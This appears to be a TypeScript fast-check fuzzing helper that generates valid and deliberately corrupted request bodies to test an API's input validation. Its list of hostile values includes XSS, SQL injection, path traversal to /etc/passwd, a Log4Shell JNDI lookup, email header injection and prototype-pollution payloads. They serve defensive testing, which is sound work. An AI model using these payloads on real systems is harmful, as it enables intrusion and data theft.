import * as fc from 'fast-check';

/** What no field of ours takes, or only just. */
const hostile = fc.constantFrom<unknown>(
  null,
  true,
  -1,
  0,
  1.5,
  Number.MAX_SAFE_INTEGER + 2,
  1e308,
  '',
  ' ',
  '\u0000',
  '\ud800',
  'a\r\nBcc: thief@example.com',
  '\u202Egnp.exe',
  '零\u200B宽',
  '<img src=x onerror=alert(1)>',
  '../../../etc/passwd',
  '${jndi:ldap://example.com}',
  "' OR 1=1 --",
  '长'.repeat(101),
  '𠮷'.repeat(5000),
  '答'.repeat(10_001),
  '2026-02-30',
  '9999-12-31T23:59:59.999999999Z',
  [],
  {},
  Array.from({ length: 121 }, (_, index) => `u${index}`),
  JSON.parse('{"__proto__":{"roles":["administrator"]}}'),
);

/** Names that no object of ours has. */
const foreignKey = fc.constantFrom(
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'status',
  '',
  'a/b~c',
  '$ref',
);

type Spoiling = { readonly place: number; readonly how: 'replace' | 'drop' | 'add' | 'wrap' };
const spoiling: fc.Arbitrary<Spoiling> = fc.record({
  place: fc.nat({ max: 30 }),
  how: fc.constantFrom('replace', 'drop', 'add', 'wrap'),
});

/** A value that meets a schema, spoilt in one place. */
function spoilt(values: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.tuple(values, spoiling, hostile, foreignKey).map(([value, { place, how }, bad, key]) => {
    const places = placesIn(value);
    const path = places[place % places.length] ?? [];
    if (how === 'drop' && path.length > 0) return changed(value, path, () => undefined);
    if (how === 'add') return changed(value, [], (whole) => withKey(whole, key, bad));
    return changed(value, path, (part) => (how === 'wrap' ? [part] : bad));
  });
}

/** Bodies as they are sent: JSON of such values, and what is hardly JSON. */
export function bodyTexts(valid: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  const json = (value: unknown): string => JSON.stringify(value) ?? '';
  return fc.oneof(
    { weight: 20, arbitrary: valid.map(json) },
    { weight: 5, arbitrary: spoilt(valid).map(json) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map(json) },
    { weight: 1, arbitrary: fc.tuple(valid.map(json), notQuiteJson).map(([text, spoil]) => spoil(text)) },
  );
}

const notQuiteJson = fc.constantFrom<(text: string) => string>(
  (text) => text.slice(0, -1),
  (text) => `\uFEFF${text}`,
  (text) => text.replace('{', '{"reason":"1","reason":"2",'),
  (text) => text.replace('{', '{"__proto__":{},'),
  (text) => `${'['.repeat(2000)}${text}${']'.repeat(2000)}`,
  (text) => text.replace(/"[^"]*"(?=[,}])/, '1e999'),
  (text) => text.replace(/"[^"]*"(?=[,}])/, '"\\ud83d"'),
  (text) => `${text}${' '.repeat(256 * 1024)}`,
  (text) => `${text}\u0000`,
  () => '',
);

type Path = readonly string[];

function placesIn(value: unknown, path: Path = []): readonly Path[] {
  if (typeof value !== 'object' || value === null) return [path];
  return [path, ...Object.entries(value).flatMap(([key, inner]) => placesIn(inner, [...path, key]))];
}

function changed(value: unknown, [key, ...rest]: Path, change: (part: unknown) => unknown): unknown {
  if (key === undefined) return change(value);
  if (Array.isArray(value)) {
    return value.map((item: unknown, index) => (String(index) === key ? changed(item, rest, change) : item));
  }
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, inner]) => [name, name === key ? changed(inner, rest, change) : inner]),
  );
}

/** `Object.fromEntries` defines what an assignment to `__proto__` would not. */
function withKey(value: unknown, key: string, added: unknown): unknown {
  return typeof value === 'object' && value !== null && !Array.isArray(value)
    ? Object.fromEntries([...Object.entries(value), [key, added]])
    : value;
}
